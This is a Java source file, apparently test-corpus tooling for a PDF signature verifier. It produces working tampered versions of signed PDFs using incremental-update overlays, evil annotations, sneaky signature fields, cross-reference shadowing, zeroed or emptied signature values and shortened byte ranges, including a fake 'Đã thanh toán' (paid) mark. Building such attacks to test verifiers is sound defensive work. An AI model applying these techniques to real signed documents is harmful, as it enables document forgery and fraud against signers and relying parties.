package vn.kyso.api.corpus;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSBase;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSObject;
import org.apache.pdfbox.pdmodel.PDAppearanceContentStream;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.PDResources;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotation;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationWidget;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAppearanceDictionary;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAppearanceStream;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
import org.apache.pdfbox.pdmodel.interactive.form.PDSignatureField;

/**
 * Attacks on a signed PDF, made the way an attacker would: by appending to the file or by editing bytes
 * in place, never by re-signing. Each method returns a new array and leaves its input alone.
 */
final class PdfTampering {

    private static final Pattern BYTE_RANGE =
            Pattern.compile("/ByteRange\\s*\\[\\s*(\\d+)\\s+(\\d+)\\s+(\\d+)\\s+(\\d+)\\s*\\]");
    private static final Pattern STARTXREF = Pattern.compile("startxref\\s+(\\d+)");

    private PdfTampering() {
    }

    /** Incremental saving attack: a new revision draws on page 1 (PDFBox writes a proper update). */
    static byte[] incrementalUpdateDrawingOnPage(byte[] pdf) throws IOException {
        try (PDDocument doc = Loader.loadPDF(pdf)) {
            PDPage page = doc.getPage(0);
            try (PDPageContentStream cs = new PDPageContentStream(doc, page,
                    PDPageContentStream.AppendMode.APPEND, true)) {
                cs.setNonStrokingColor(1f, 0f, 0f);
                cs.addRect(72, 300, 300, 40);
                cs.fill();
            }
            return saveIncremental(doc, page);
        }
    }

    /**
     * Evil annotation: a later revision adds a free-text annotation whose appearance is a white box
     * over the signed text, which viewers draw as if it were the page.
     */
    static byte[] evilAnnotation(byte[] pdf) throws IOException {
        try (PDDocument doc = Loader.loadPDF(pdf)) {
            PDPage page = doc.getPage(0);
            COSDictionary dict = new COSDictionary();
            dict.setName(COSName.TYPE, "Annot");
            dict.setName(COSName.SUBTYPE, "FreeText");
            dict.setItem(COSName.RECT, new PDRectangle(72, 300, 300, 40).getCOSArray());
            dict.setString(COSName.CONTENTS, "Đã thanh toán");
            dict.setString(COSName.DA, "/Helv 12 Tf 0 g");
            PDAnnotation annotation = PDAnnotation.createAnnotation(dict);
            annotation.setAppearance(whiteBox(doc));
            annotation.setPage(page);
            List<PDAnnotation> annotations = new ArrayList<>(page.getAnnotations());
            annotations.add(annotation);
            page.setAnnotations(annotations);
            return saveIncremental(doc, page);
        }
    }

    /**
     * Sneaky signature: a later revision adds an empty signature field whose widget appearance draws
     * over the signed page; signature fields are what a signer may add after a signature.
     */
    static byte[] sneakySignatureField(byte[] pdf) throws IOException {
        try (PDDocument doc = Loader.loadPDF(pdf)) {
            PDPage page = doc.getPage(0);
            PDAcroForm form = doc.getDocumentCatalog().getAcroForm(null);
            if (form == null) {
                throw new IllegalStateException("a signed PDF without a form");
            }
            PDSignatureField field = new PDSignatureField(form);
            field.setPartialName("ChuKy2");
            PDAnnotationWidget widget = field.getWidgets().get(0);
            widget.setRectangle(new PDRectangle(72, 300, 300, 40));
            widget.setPage(page);
            widget.setAppearance(whiteBox(doc));
            COSArray fields = form.getCOSObject().getCOSArray(COSName.FIELDS);
            fields.add(field.getCOSObject());
            fields.setNeedToBeUpdated(true);
            form.getCOSObject().setNeedToBeUpdated(true);
            List<PDAnnotation> annotations = new ArrayList<>(page.getAnnotations());
            annotations.add(widget);
            page.setAnnotations(annotations);
            return saveIncremental(doc, page);
        }
    }

    private static PDAppearanceDictionary whiteBox(PDDocument doc) throws IOException {
        PDAppearanceStream stream = new PDAppearanceStream(doc);
        stream.setBBox(new PDRectangle(300, 40));
        stream.setResources(new PDResources());
        try (PDAppearanceContentStream cs = new PDAppearanceContentStream(stream)) {
            cs.setNonStrokingColor(1f, 1f, 1f);
            cs.addRect(0, 0, 300, 40);
            cs.fill();
        }
        PDAppearanceDictionary appearance = new PDAppearanceDictionary();
        appearance.setNormalAppearance(stream);
        return appearance;
    }

    private static byte[] saveIncremental(PDDocument doc, PDPage page) throws IOException {
        page.getCOSObject().setNeedToBeUpdated(true);
        doc.getPages().getCOSObject().setNeedToBeUpdated(true);
        doc.getDocumentCatalog().getCOSObject().setNeedToBeUpdated(true);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        doc.saveIncremental(out);
        return out.toByteArray();
    }

    /**
     * How the appended cross-reference section points at the shadowing object.
     */
    enum XrefShadow {
        /** The object is written under the signed content stream's number; one xref entry. */
        REDEFINE,
        /** As REDEFINE, plus a second, fresh object number pointing at the same object. */
        REDEFINE_AND_ALIAS,
        /**
         * The object is written under a fresh number; the xref gives it both that number and the signed
         * content stream's number (issue #10 item 6: two entries, one object, a reused number).
         */
        FRESH_WITH_REUSED_NUMBER
    }

    /**
     * Shadow attack through the cross-reference table: an appended section makes the signed page's
     * content stream resolve to a new object (hide: a white box over the lower half of the page).
     */
    static byte[] xrefShadow(byte[] pdf, XrefShadow variant) throws IOException {
        int contents;
        int root;
        int size;
        byte[] original;
        try (PDDocument doc = Loader.loadPDF(pdf)) {
            PDPage page = doc.getPage(0);
            COSBase item = page.getCOSObject().getItem(COSName.CONTENTS);
            if (item instanceof COSArray array) {
                item = array.get(0);
            }
            if (!(item instanceof COSObject indirect)) {
                throw new IllegalStateException("page 1 has no indirect content stream to shadow");
            }
            contents = (int) indirect.getKey().getNumber();
            root = (int) ((COSObject) doc.getDocument().getTrailer().getItem(COSName.ROOT)).getKey().getNumber();
            size = doc.getDocument().getTrailer().getInt(COSName.SIZE);
            try (InputStream in = page.getContents()) {
                original = in.readAllBytes();
            }
        }
        long prev = lastStartXref(pdf);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(pdf);
        String lf = pdf[pdf.length - 1] == '\n' ? "" : "\n";
        long offset = pdf.length + lf.length();
        byte[] shadow = concat(original, "\nq 1 1 1 rg 0 0 612 420 re f Q\n".getBytes(StandardCharsets.US_ASCII));
        int header = variant == XrefShadow.FRESH_WITH_REUSED_NUMBER ? size : contents;
        String object = lf + header + " 0 obj\n<< /Length " + shadow.length + " >>\nstream\n";
        out.write(object.getBytes(StandardCharsets.US_ASCII));
        out.write(shadow);
        out.write("\nendstream\nendobj\n".getBytes(StandardCharsets.US_ASCII));
        long xref = out.size();
        StringBuilder x = new StringBuilder("xref\n0 1\n0000000000 65535 f \n");
        x.append(contents).append(" 1\n").append(entry(offset));
        int newSize = size;
        if (variant != XrefShadow.REDEFINE) {
            x.append(size).append(" 1\n").append(entry(offset));
            newSize = size + 1;
        }
        x.append("trailer\n<< /Size ").append(newSize).append(" /Root ").append(root).append(" 0 R /Prev ")
                .append(prev).append(" >>\nstartxref\n").append(xref).append("\n%%EOF\n");
        out.write(x.toString().getBytes(StandardCharsets.US_ASCII));
        return out.toByteArray();
    }

    /** Bytes after the signed revision with no cross-reference section: a body nobody signed. */
    static byte[] trailingObjectWithoutXref(byte[] pdf) {
        return concat(pdf, "\n9999 0 obj\n<< /Type /Annot /Subtype /FreeText /Contents (Đã thanh toán) >>\nendobj\n"
                .getBytes(StandardCharsets.UTF_8));
    }

    /** Universal signature forgery: the signature value replaced by zeros, the byte range untouched. */
    static byte[] contentsZeroed(byte[] pdf) {
        long[] r = lastByteRange(pdf);
        byte[] out = pdf.clone();
        Arrays.fill(out, (int) (r[0] + r[1]) + 1, (int) r[2] - 1, (byte) '0');
        return out;
    }

    /** Universal signature forgery: /Contents emptied to {@code <>}, padded with blanks to keep offsets. */
    static byte[] contentsEmptied(byte[] pdf) {
        long[] r = lastByteRange(pdf);
        byte[] out = pdf.clone();
        int from = (int) (r[0] + r[1]);
        Arrays.fill(out, from, (int) r[2], (byte) ' ');
        out[from] = '<';
        out[from + 1] = '>';
        return out;
    }

    /**
     * The byte range rewritten (same length, so no offset moves) to leave the file's last 64 bytes out:
     * the declared coverage no longer is the file.
     */
    static byte[] byteRangeShortened(byte[] pdf) {
        String text = new String(pdf, StandardCharsets.ISO_8859_1);
        Matcher m = lastMatch(BYTE_RANGE, text);
        long a = Long.parseLong(m.group(1));
        long b = Long.parseLong(m.group(2));
        long c = Long.parseLong(m.group(3));
        long d = Long.parseLong(m.group(4));
        String replacement = "/ByteRange [" + a + " " + b + " " + c + " " + (d - 64) + "]";
        String old = m.group();
        if (replacement.length() > old.length()) {
            throw new IllegalStateException("byte range rewrite longer than the original");
        }
        replacement = replacement.substring(0, replacement.length() - 1)
                + " ".repeat(old.length() - replacement.length()) + "]";
        byte[] out = pdf.clone();
        byte[] r = replacement.getBytes(StandardCharsets.ISO_8859_1);
        System.arraycopy(r, 0, out, m.start(), r.length);
        return out;
    }

    /** [offset1, length1, offset2, length2] of the last signature in the file. */
    static long[] lastByteRange(byte[] pdf) {
        Matcher m = lastMatch(BYTE_RANGE, new String(pdf, StandardCharsets.ISO_8859_1));
        return new long[] {Long.parseLong(m.group(1)), Long.parseLong(m.group(2)), Long.parseLong(m.group(3)),
            Long.parseLong(m.group(4))};
    }

    private static long lastStartXref(byte[] pdf) {
        return Long.parseLong(lastMatch(STARTXREF, new String(pdf, StandardCharsets.ISO_8859_1)).group(1));
    }

    private static Matcher lastMatch(Pattern p, String text) {
        Matcher m = p.matcher(text);
        int at = -1;
        while (m.find()) {
            at = m.start();
        }
        if (at < 0) {
            throw new IllegalStateException("no " + p.pattern() + " in the file");
        }
        m.find(at);
        return m;
    }

    private static String entry(long offset) {
        return String.format("%010d 00000 n \n", offset);
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] out = Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, out, a.length, b.length);
        return out;
    }
}
